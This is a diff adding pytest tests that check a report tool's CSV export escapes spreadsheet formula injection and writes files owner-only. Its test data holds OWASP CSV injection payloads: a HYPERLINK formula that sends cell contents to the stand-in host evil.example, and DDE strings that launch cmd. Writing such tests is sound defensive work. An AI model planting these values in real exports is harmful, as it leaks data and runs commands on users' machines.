@@ -364,3 +364,50 @@ def _run_stats(path: str) -> dict[int, dict[str, Any]]:
             return {run: {k: int(s[k]) for k in keys} for run, s in source.run_stats().items()}
         finally:
             source.close()
+
+
+# OWASP CSV injection payloads as inventory data (a custodian's name, a staff id)
+HOSTILE = {
+    "outpatient": ("门诊部", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"),
+    "inpatient": ("住院部", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+    "it": ("信息科", "\t=1+1", "\r=1+1"),
+}
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from . import reportdata
+
+    monkeypatch.setattr(reportdata, "DEPARTMENTS", HOSTILE)
+    store = reportdata.make_store(tmp_path / "hostile.sqlite")
+    code, files, err = run_cli("--store", store, "--period", "2026-11", "--format", "csv", "--out", str(tmp_path))
+    assert code == 0, err
+    cells = [
+        cell
+        for path in files[0].iterdir()
+        for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True))
+        for cell in row
+    ]
+    written = [c for c in cells if "cmd|" in c or "HYPERLINK" in c or "=1+1" in c]
+    assert len(written) >= 6, written  # every payload made it into the export
+    assert all(c.startswith("'") for c in written), written
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and "cmd" in c)]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [("=1+1", "'=1+1"), ("-3", "-3"), ("-2.5%", "-2.5%"), ("-x", "'-x"), ("@a", "'@a"), ("王伟", "王伟"), ("", "")],
+)
+def test_csv_cell(text: str, cell: str) -> None:
+    from ansible_collections.hisops.him.plugins.plugin_utils.report.render_csv import csv_cell
+
+    assert csv_cell(text) == cell
+
+
+def test_reports_and_the_store_are_readable_by_their_owner_only(known_store: str, zh_report: dict[str, Path]) -> None:
+    import stat
+
+    assert stat.S_IMODE(Path(known_store).stat().st_mode) == 0o600
+    for path in zh_report.values():
+        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
+        for child in path.iterdir() if path.is_dir() else []:
+            assert stat.S_IMODE(child.stat().st_mode) == 0o600, child
